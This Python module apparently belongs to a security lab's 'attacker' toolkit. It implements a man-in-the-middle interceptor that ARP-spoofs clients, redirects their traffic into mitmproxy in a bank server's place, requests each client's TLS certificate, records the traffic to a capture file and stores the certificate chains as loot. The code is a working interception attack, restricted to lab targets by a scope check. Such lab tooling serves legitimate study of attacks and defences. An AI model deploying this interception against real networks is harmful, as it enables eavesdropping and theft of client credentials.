"""The interceptor: mitmproxy in the bank's place, asking each client for its certificate.

mitmproxy runs as the program that it is, in an environment of its own, with `interception_addon` in it. On loopback it
is a reverse proxy for each door, behind a relay that records what crosses the wire on the clients' side; on the lab's
network it is a transparent proxy for the connections that ARP spoofing leads here.
"""

import asyncio
import json
import os
import shutil
import socket
import sys
import tempfile
from collections import Counter
from collections.abc import AsyncIterator, Callable, Coroutine, Iterable, Sequence
from contextlib import AsyncExitStack, ExitStack, asynccontextmanager, suppress
from hashlib import sha256
from pathlib import Path
from typing import Any

from attacker.errors import AttackerError
from attacker.guard import Guard
from attacker.haul import Haul
from attacker.leaks import INTERCEPTION
from attacker.packets import host_port
from attacker.plays import Loot
from attacker.privileges import give_up_privileges
from attacker.redirect import Redirect, redirected
from attacker.relay import Forward, Relay
from attacker.scope import check_target
from attacker.stolen import Sight
from attacker.wire_file import CaptureFile
from lab.events import Intercepted, PositionLeft, PositionTaken, Reporter, Trouble, WentOn

CAPTURE_FILE = "interception.pcapng"
ADDON = Path(__file__).with_name("interception_addon.py")
PROGRAM = "mitmdump"
START_SECONDS = 30.0
STOP_SECONDS = 3.0
QUIET_SECONDS = 1.0
"""Once there is something for every door: when nobody has come for so long, everybody has."""
MAX_LINE = 1 << 20
PROXY_PORT = 8080
VISITS = 2
"""How often each client on the network is waited for at each server: they log in with TLS 1.2 and 1.3 in turn."""

Visits = Counter[tuple[str, str]]
"""How often clients, by address, come to servers, by address and port."""


async def intercept_on_loopback(forwards: Sequence[Forward], haul: Haul, reporter: Reporter, folder: Path) -> None:
    """Answers in the servers' place until there is something for every door and nobody comes any more.

    AttackerError where mitmproxy is missing or cannot start; OutOfScope for a server that is not the lab's.
    """
    targets = [check_target(*one.target) for one in forwards]
    ports = _free_ports(len(forwards))
    modes = [
        f"--mode=reverse:https://{host_port(target)}@127.0.0.1:{port}"
        for target, port in zip(targets, ports, strict=True)
    ]
    file = CaptureFile(folder / CAPTURE_FILE)
    relay = Relay(file.write)
    try:
        await relay.start(Forward(one.listen, ("127.0.0.1", port)) for one, port in zip(forwards, ports, strict=True))
        async with running_mitmproxy(modes) as mitmproxy:
            detail = (f"{host_port(one.listen)} in the place of {host_port(one.target)}" for one in forwards)
            reporter.report(PositionTaken(INTERCEPTION.id, (*detail, f"mitmproxy {mitmproxy.version}")))
            servers = {port: host_port(one.listen) for one, port in zip(forwards, ports, strict=True)}
            await _listen(mitmproxy, servers, haul, reporter)
    finally:
        await relay.close()
        file.close()
    reporter.report(PositionLeft(INTERCEPTION.id, ()))


async def intercept_on_network(
    guard: Guard,
    clients: Sequence[str],
    server: str,
    ports: Sequence[int],
    haul: Haul,
    reporter: Reporter,
    folder: Path,
) -> None:
    """Comes between each client and the server by ARP spoofing, and answers at the server's ports in its place until
    there is something for every door and every client has been at every port in both versions.

    Needs CAP_NET_RAW for the position and CAP_NET_ADMIN for the redirection; mitmproxy has neither. AttackerError where
    one of the parts cannot do its work; OutOfScope for a host that is not the lab's.
    """
    from attacker.arp import ArpPosition  # these two need scapy, and loopback need not wait for it
    from attacker.live import LiveLink

    targets = [check_target(server, port) for port in ports]
    positions = [ArpPosition(guard, client, server) for client in clients]
    redirect = Redirect(tuple(one.client for one in positions), positions[0].server, tuple(ports), PROXY_PORT)
    file = CaptureFile(folder / CAPTURE_FILE)
    link = LiveLink(positions[0].interface, redirect.bpf_filter())
    link.watch(file.write)
    mode = f"--mode=transparent@{positions[0].own_ip}:{PROXY_PORT}"
    try:
        # The last in is the first out: nobody is led here before there is somebody to answer, nor after.
        async with running_mitmproxy([mode], give_up_privileges) as mitmproxy, AsyncExitStack() as stack:
            stack.enter_context(redirected(redirect))
            for position in positions:
                await stack.enter_async_context(position)
            between = (f"between {one.client} and {one.server}, after ARP spoofing" for one in positions)
            places = (f"in the place of {host_port(target)}" for target in targets)
            detail = (*between, *places, f"mitmproxy {mitmproxy.version}, a transparent proxy")
            reporter.report(PositionTaken(INTERCEPTION.id, detail))
            awaited = Visits({(one.client, host_port(target)): VISITS for one in positions for target in targets})
            work = _listen(mitmproxy, {}, haul, reporter, awaited)
            await _while_held(work, (position.hold(asyncio.Event()) for position in positions))
    finally:
        link.close()
        if link.lost:
            reporter.report(Trouble(f"{link.lost} of {link.packets} packets were lost: {CAPTURE_FILE} lacks them"))
        file.close()
    healed = dict.fromkeys(host for position in positions for host in position.healed)
    reporter.report(PositionLeft(INTERCEPTION.id, tuple(healed)))


async def _while_held(work: Coroutine[Any, Any, None], holds: Iterable[Coroutine[Any, Any, None]]) -> None:
    """Works to the end; AttackerError as soon as one of the positions is lost."""
    tasks = [asyncio.create_task(one) for one in (work, *holds)]
    try:
        done, _ = await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
        for task in done:
            task.result()
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


async def _listen(
    mitmproxy: "Mitmproxy", servers: dict[int, str], haul: Haul, reporter: Reporter, awaited: Visits | None = None
) -> None:
    """Takes in what mitmproxy tells, until there is something for every door and the `awaited` visits have been made;
    without these, until nobody comes any more. `servers` has the address that clients know, by the port that they come
    in at, where that is another.
    """
    left = Visits(awaited)
    complete = asyncio.create_task(haul.complete())
    try:
        while not (awaited and complete.done() and not left):
            try:
                async with asyncio.timeout(QUIET_SECONDS if complete.done() and not awaited else None):
                    told = await mitmproxy.next()
            except TimeoutError:
                return
            if told is None:
                raise AttackerError(f"mitmproxy ended: {mitmproxy.last_words()}")
            take(told, servers, haul, reporter)
            if told.get("what") == "client":
                left -= Visits([(str(told["peer"][0]), host_port(tuple(told["local"])))])
            await asyncio.sleep(0)  # complete() gets to know what was just taken in
    finally:
        complete.cancel()


def take(told: dict[str, Any], servers: dict[int, str], haul: Haul, reporter: Reporter) -> None:
    """One thing that mitmproxy told: reports it, and brings a certificate into the haul."""
    what, local, peer = told.get("what"), tuple(told.get("local", ())), tuple(told.get("peer", ()))
    if what == "server":
        reporter.report(WentOn(host_port(peer), host_port(local), told["tls"], told["error"]))
    elif what == "client":
        server = servers.get(local[1], host_port(local))
        chain = tuple(map(bytes.fromhex, told["chain"]))
        digest = sha256(chain[0]).hexdigest() if chain else ""
        reporter.report(Intercepted(host_port(peer), server, told["tls"], digest, told["error"]))
        if chain:
            haul.take(Loot(chain, None), Sight(client=host_port(peer), server=server, tls=told["tls"]))


class Mitmproxy:
    """A running mitmdump with our addon."""

    def __init__(self, process: asyncio.subprocess.Process, version: str) -> None:
        self.version = version
        self._process = process
        self._words: list[str] = []
        assert process.stderr
        self._listening = asyncio.create_task(self._hear(process.stderr))

    async def next(self) -> dict[str, Any] | None:
        """The next thing that it tells; None when it has ended."""
        assert self._process.stdout
        while line := await self._process.stdout.readline():
            with suppress(ValueError):
                told = json.loads(line)
                if isinstance(told, dict):
                    return told
            self._words.append(line.decode("utf-8", "replace").strip())
        return None

    def last_words(self) -> str:
        """The end of what else it said."""
        return self._words[-1] if self._words else "it said nothing"

    async def stop(self) -> None:
        """Ends it: its standard input ends first, and it is killed if that does not do."""
        assert self._process.stdin
        self._process.stdin.close()
        try:
            async with asyncio.timeout(STOP_SECONDS):
                await self._process.wait()
        except TimeoutError:
            self._process.kill()
            await self._process.wait()
        self._listening.cancel()

    async def _hear(self, stream: asyncio.StreamReader) -> None:
        while line := await stream.readline():
            self._words = [*self._words[-20:], line.decode("utf-8", "replace").strip()]


@asynccontextmanager
async def running_mitmproxy(
    modes: Sequence[str], prepare: Callable[[], None] | None = None
) -> AsyncIterator[Mitmproxy]:
    """mitmdump in these modes, as long as the block lasts; its own CA lasts no longer. `prepare` is called in its
    process before the program begins."""
    program = find_program()
    with tempfile.TemporaryDirectory(prefix="mitmproxy-") as folder:
        process = await asyncio.create_subprocess_exec(
            program,
            *modes,
            *("--quiet", "--ssl-insecure", f"--scripts={ADDON}"),
            *("--set", "request_client_cert=true", "--set", f"confdir={folder}", "--set", "http2=false"),
            # In TLS 1.3 a client's handshake is over before the server has looked at it, and mitmproxy waits for ever.
            *("--set", "tls_version_server_max=TLS1_2"),
            stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE,
            limit=MAX_LINE,
            preexec_fn=prepare,
            env={"PATH": os.environ.get("PATH", ""), "HOME": folder, "PYTHONUNBUFFERED": "1"},
        )
        it = Mitmproxy(process, await _version(program))
        try:
            try:
                async with asyncio.timeout(START_SECONDS):
                    while (told := await it.next()) and told.get("what") != "running":
                        pass
            except TimeoutError:
                raise AttackerError(f"{program} did not start within {START_SECONDS:g} s") from None
            if told is None:
                raise AttackerError(f"{program} ended: {it.last_words()}")
            yield it
        finally:
            await it.stop()


def find_program() -> str:
    """mitmdump's path: in the environment that `make` sets up beside ours, or wherever PATH leads."""
    own = Path(sys.prefix) / "mitmproxy" / "bin" / PROGRAM
    found = str(own) if own.exists() else shutil.which(PROGRAM)
    if not found:
        raise AttackerError(f"{PROGRAM} is missing: `make .venv/mitmproxy` installs mitmproxy for the lab")
    return found


async def _version(program: str) -> str:
    """As in `Mitmproxy: 11.0.2`."""
    process = await asyncio.create_subprocess_exec(program, "--version", stdout=asyncio.subprocess.PIPE)
    output, _ = await process.communicate()
    first = output.decode("utf-8", "replace").partition("\n")[0]
    return first.rpartition(" ")[2].strip()


def _free_ports(count: int) -> list[int]:
    with ExitStack() as stack:
        free = [stack.enter_context(socket.socket()) for _ in range(count)]
        for one in free:
            one.bind(("127.0.0.1", 0))
        return [one.getsockname()[1] for one in free]
